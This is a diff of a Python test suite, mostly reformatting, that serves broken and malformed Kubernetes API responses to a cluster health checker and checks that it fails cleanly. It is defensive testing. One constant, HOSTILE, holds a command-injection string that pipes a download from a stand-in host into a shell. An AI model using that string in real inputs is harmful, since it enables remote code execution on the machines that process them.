@@ -1,4 +1,5 @@
-"""API servers that misbehave, over real HTTP: bounded time, one sentence, a gap or a refusal, never healthy, never a traceback.
+"""API servers that misbehave, over real HTTP: bounded time, one sentence, a gap or a refusal, never healthy, never a
+traceback.
 
 Each case spoils the answers about pods, while all others are those of a healthy cluster; or it spoils all of them.
 """
@@ -40,7 +41,9 @@ KINDS = {f"{kind.api}/{kind.plural}": kind for kind in ALL.values()}
 
 def listed(asked: Asked, *items: Any, **meta: Any) -> Reply:
     kind = next(k for k in ALL.values() if asked.path.endswith(f"/{k.plural}") and asked.path.startswith(f"/{k.api}/"))
-    return as_json({"kind": f"{kind.type.__name__}List", "metadata": {"resourceVersion": "7", **meta}, "items": list(items)})
+    return as_json(
+        {"kind": f"{kind.type.__name__}List", "metadata": {"resourceVersion": "7", **meta}, "items": list(items)}
+    )
 
 
 def pod(name: Any = "web-1", **more: Any) -> dict[str, Any]:
@@ -49,7 +52,11 @@ def pod(name: Any = "web-1", **more: Any) -> dict[str, Any]:
     return {
         "metadata": {"name": name, "namespace": "shop", "uid": "u"},
         "spec": {"nodeName": "n1", "containers": [{"name": "web", "image": "web:1"}]},
-        "status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}], "containerStatuses": [status]},
+        "status": {
+            "phase": "Running",
+            "conditions": [{"type": "Ready", "status": "True"}],
+            "containerStatuses": [status],
+        },
         **more,
     }
 
@@ -62,8 +69,17 @@ def healthy(asked: Asked) -> Reply:
     if asked.path.endswith("/pods"):
         return listed(asked, pod())
     if asked.path.endswith("/nodes"):
-        return listed(asked, {"metadata": {"name": "n1"}, "status": {"conditions": [{"type": "Ready", "status": "True"}]}})
-    return listed(asked, *([{"metadata": {"name": "shop"}, "status": {"phase": "Active"}}] if asked.path.endswith("/namespaces") else []))
+        return listed(
+            asked, {"metadata": {"name": "n1"}, "status": {"conditions": [{"type": "Ready", "status": "True"}]}}
+        )
+    return listed(
+        asked,
+        *(
+            [{"metadata": {"name": "shop"}, "status": {"phase": "Active"}}]
+            if asked.path.endswith("/namespaces")
+            else []
+        ),
+    )
 
 
 def pods(spoil: Callable[[Asked], Reply]) -> Callable[[Asked], Reply]:
@@ -132,13 +148,17 @@ PODS: dict[str, Callable[[Asked], Reply]] = {
     "restarts huge as a power": body(
         b'{"kind":"PodList","metadata":{},"items":[{"metadata":{"name":"a"},"status":{"containerStatuses":[{"name":"w","restartCount":1e30}]}}]}'
     ),
-    "restarts not a number": body(b'{"kind":"PodList","metadata":{},"items":[{"metadata":{"name":"a"},"status":{"x":NaN}}]}'),
+    "restarts not a number": body(
+        b'{"kind":"PodList","metadata":{},"items":[{"metadata":{"name":"a"},"status":{"x":NaN}}]}'
+    ),
     "spec a text": items({**pod(), "spec": "x"}),
     "containers a dict": items({**pod(), "spec": {"containers": {"a": 1}}}),
     "metadata of the list null": lambda _: as_json({"kind": "PodList", "metadata": None, "items": []}, 500),
     "continue a number": lambda _: as_json({"kind": "PodList", "metadata": {"continue": 7}, "items": [pod()]}),
     "the same continue again": lambda asked: listed(asked, pod(), **{"continue": "again"}),
-    "continue in a circle": lambda asked: listed(asked, pod(), **{"continue": "b" if asked.params.get("continue") == "a" else "a"}),
+    "continue in a circle": lambda asked: listed(
+        asked, pod(), **{"continue": "b" if asked.params.get("continue") == "a" else "a"}
+    ),
     "empty pages in a circle": lambda asked: listed(asked, **{"continue": "again"}),
     "continue of a megabyte": lambda asked: listed(asked, pod(), **{"continue": "x" * 1_000_000}),
     "gone for ever": first_page_then(lambda _: as_json({"kind": "Status", "message": "too old"}, 410)),
@@ -231,7 +251,9 @@ ALL_SPOILT = [
 
 @pytest.mark.parametrize("name", [n for n in ALL_SPOILT if n in PODS])
 async def test_a_server_that_answers_everything_so_is_refused(tmp_path: Path, name: str) -> None:
-    async with running(PODS[name] if name != "items null" else lambda a: as_json({"kind": "X", "items": [None]})) as api:
+    async with running(
+        PODS[name] if name != "items null" else lambda a: as_json({"kind": "X", "items": [None]})
+    ) as api:
         told = await look(tmp_path, api)
         check(told)
         assert told.found is None and len(told.text) < 500
@@ -239,7 +261,18 @@ async def test_a_server_that_answers_everything_so_is_refused(tmp_path: Path, na
 
 @pytest.mark.parametrize(
     "answer",
-    [b"", b"{}", b"[]", b"null", b"7", b'{"gitVersion": null}', b'{"gitVersion": 7}', b'{"gitVersion": ""}', DEEP, b'{"a":' * 100_000],
+    [
+        b"",
+        b"{}",
+        b"[]",
+        b"null",
+        b"7",
+        b'{"gitVersion": null}',
+        b'{"gitVersion": 7}',
+        b'{"gitVersion": ""}',
+        DEEP,
+        b'{"a":' * 100_000,
+    ],
 )
 async def test_a_version_that_is_none_is_refused(tmp_path: Path, answer: bytes) -> None:
     async with running(lambda asked: Reply(200, answer) if asked.path == "/version" else healthy(asked)) as api:
@@ -267,7 +300,9 @@ async def test_no_pause_is_longer_than_a_person_waits(tmp_path: Path, said: str)
 
 
 @asynccontextmanager
-async def reading(folder: Path, respond: Callable[[Asked], Reply] = healthy, **kinds: Any) -> AsyncIterator[tuple[LiveReader, ApiServer]]:
+async def reading(
+    folder: Path, respond: Callable[[Asked], Reply] = healthy, **kinds: Any
+) -> AsyncIterator[tuple[LiveReader, ApiServer]]:
     async with running(respond, **kinds) as api:
         reader = connect(kubeconfig(folder, api.url, {"token": TOKEN}))
         try:
@@ -278,7 +313,9 @@ async def reading(folder: Path, respond: Callable[[Asked], Reply] = healthy, **k
 
 async def test_pages_without_an_end_have_one(tmp_path: Path) -> None:
     numbers = count()
-    async with reading(tmp_path, lambda asked: listed(asked, pod(f"p{next(numbers)}"), **{"continue": f"t{next(numbers)}"})) as (
+    async with reading(
+        tmp_path, lambda asked: listed(asked, pod(f"p{next(numbers)}"), **{"continue": f"t{next(numbers)}"})
+    ) as (
         reader,
         api,
     ):
@@ -307,7 +344,9 @@ async def test_one_broken_object_costs_itself_and_is_told(tmp_path: Path) -> Non
 
 
 async def test_no_gap_is_made_of_a_whole_list(tmp_path: Path) -> None:
-    async with running(pods(items(pod(), pod(), {**pod("web-2"), "status": {**pod()["status"], "unknown": {"a": [1]}}}))) as api:
+    async with running(
+        pods(items(pod(), pod(), {**pod("web-2"), "status": {**pod()["status"], "unknown": {"a": [1]}}}))
+    ) as api:
         told = await look(tmp_path, api)
     assert told.code is Exit.HEALTHY
 
@@ -395,7 +434,9 @@ async def test_a_log_without_an_end_is_its_end(tmp_path: Path) -> None:
 
 async def test_a_login_that_ends_on_the_way_is_told(tmp_path: Path) -> None:
     calls = count()
-    async with running(lambda asked: healthy(asked) if next(calls) < 4 else as_json({"message": "Unauthorized"}, 401)) as api:
+    async with running(
+        lambda asked: healthy(asked) if next(calls) < 4 else as_json({"message": "Unauthorized"}, 401)
+    ) as api:
         told = await look(tmp_path, api)
     check(told)
     assert "does not accept the token of context" in told.text
@@ -411,7 +452,9 @@ async def test_words_of_a_hostile_cluster_reach_no_terminal(tmp_path: Path) -> N
         "image": said,
         "state": {"waiting": {"reason": "ImagePullBackOff", "message": said}},
     }
-    broken = status(phase="Pending", conditions=[{"type": "Ready", "status": "False", "message": said}], containerStatuses=[waiting])
+    broken = status(
+        phase="Pending", conditions=[{"type": "Ready", "status": "False", "message": said}], containerStatuses=[waiting]
+    )
     async with running(pods(items(broken))) as api:
         told = await look(tmp_path, api)
     assert told.code is Exit.PROBLEM
@@ -420,13 +463,19 @@ async def test_words_of_a_hostile_cluster_reach_no_terminal(tmp_path: Path) -> N
 
 
 async def test_two_objects_of_one_name_are_no_traceback(tmp_path: Path) -> None:
-    async with running(lambda asked: gzipped(healthy(asked)) if not asked.path.endswith("/pods") else listed(asked, pod(), pod())) as api:
+    async with running(
+        lambda asked: gzipped(healthy(asked)) if not asked.path.endswith("/pods") else listed(asked, pod(), pod())
+    ) as api:
         assert (await look(tmp_path, api)).code is Exit.HEALTHY
 
 
 async def test_a_deadline_of_any_length_is_one(tmp_path: Path) -> None:
     """The API takes every positive int64 of seconds, which is more than a difference of two times can be."""
-    job = {"metadata": {"name": "j", "namespace": "shop"}, "spec": {"activeDeadlineSeconds": 2**63 - 1}, "status": {"active": 1}}
+    job = {
+        "metadata": {"name": "j", "namespace": "shop"},
+        "spec": {"activeDeadlineSeconds": 2**63 - 1},
+        "status": {"active": 1},
+    }
     job["status"]["startTime"] = "2026-11-20T02:00:00Z"  # pyright: ignore[reportIndexIssue]
     async with running(lambda asked: listed(asked, job) if asked.path.endswith("/jobs") else healthy(asked)) as api:
         assert (await look(tmp_path, api)).code is Exit.HEALTHY
@@ -437,7 +486,13 @@ HOSTILE = "x$(curl evil.test|sh);id"
 
 async def test_a_name_in_a_volume_is_no_command(tmp_path: Path) -> None:
     """What kubectl would take as a reference is not checked by the API server: it reaches us as it was written."""
-    waiting = {"name": "web", "ready": False, "restartCount": 0, "image": "web:1", "state": {"waiting": {"reason": "ContainerCreating"}}}
+    waiting = {
+        "name": "web",
+        "ready": False,
+        "restartCount": 0,
+        "image": "web:1",
+        "state": {"waiting": {"reason": "ContainerCreating"}},
+    }
     made = status(phase="Pending", conditions=[{"type": "Ready", "status": "False"}], containerStatuses=[waiting])
     made["spec"] = {
         **made["spec"],
